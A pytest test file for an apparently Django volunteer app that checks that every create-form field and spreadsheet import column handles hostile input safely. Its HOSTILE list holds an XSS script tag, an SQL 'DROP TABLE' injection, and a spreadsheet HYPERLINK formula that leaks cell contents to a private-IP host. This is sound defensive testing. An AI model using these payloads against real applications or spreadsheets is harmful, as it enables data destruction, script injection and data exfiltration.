"""Hostile input (SECURITY IN-3) in every form field and import column: a field/row error or a correct
save, never a 500 and never rendered markup."""

import re
import unicodedata
from datetime import date

import pytest
from django.urls import reverse

from stations import idnumbers
from volunteers.importing import COLUMNS, validate_rows
from volunteers.models import Volunteer
from volunteers.tests.test_import import row, xlsx

CHINESE = re.compile(r"[\u4e00-\u9fff]")
HOSTILE = [
    "<script>alert(1)</script>",
    "'; DROP TABLE volunteers_volunteer; --",
    "x" * 10_000,
    "a\x00b",
    "😀👮‍♂️",
    "１３８１２３４５６７８",
    '=HYPERLINK("http://10.0.0.9/?"&A1,"x")',
]
FIELDS = [
    "name",
    "id_number",
    "gender",
    "birth_date",
    "mobile",
    "elder_category",
    "member_type",
    "former_unit",
    "skills",
    "position",
    "joined_on",
    "roles",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("field", FIELDS)
def test_create_form_survives_hostile_input(world, client_as, field, value):
    data = {
        "workstation": world.a.station.pk,
        "name": "安全测试",
        "id_number": idnumbers.make("230102", date(1958, 6, 1), 13),
        "mobile": "13904511234",
        "elder_category": "none",
        "member_type": "retired_officer",
        "position": "member",
        "joined_on": "2024-03-01",
        field: value,
    }
    response = client_as(world.user("staff")).post(reverse("volunteers:volunteer-create"), data)
    assert response.status_code in (200, 302)
    assert b"<script>alert(1)</script>" not in response.content
    if response.status_code == 302:
        saved = Volunteer.objects.get()
        assert "\x00" not in saved.name and len(saved.name) <= 50
    else:  # refused: the form says why, and nothing was saved
        assert response.context["form"].errors, field
        assert not Volunteer.objects.exists()


@pytest.mark.parametrize("value", [v for v in HOSTILE if "\x00" not in v])  # xlsx cannot hold NUL
def test_import_columns_survive_hostile_input(world, value):
    for column in COLUMNS:
        plan = validate_rows(
            user=world.user("staff"), name="h.xlsx", data=xlsx([row(world.a.station, 1, **{column.header: value})])
        )
        assert plan.rows == 1
        if plan.errors:  # a row error on this column, in Chinese
            assert {(e.row, e.column) for e in plan.errors} == {(2, column.header)}, column.header
            assert all(CHINESE.search(e.message) for e in plan.errors), plan.errors
            continue
        # or a correct save: the value as typed, or its NFKC form (full-width digits)
        assert plan.is_valid and len(plan.creates) == 1, column.header
        volunteer, roles = plan.creates[0]
        stored = roles if column.key == "roles" else getattr(volunteer, column.key)
        assert stored in (value, unicodedata.normalize("NFKC", value)), (column.header, stored)
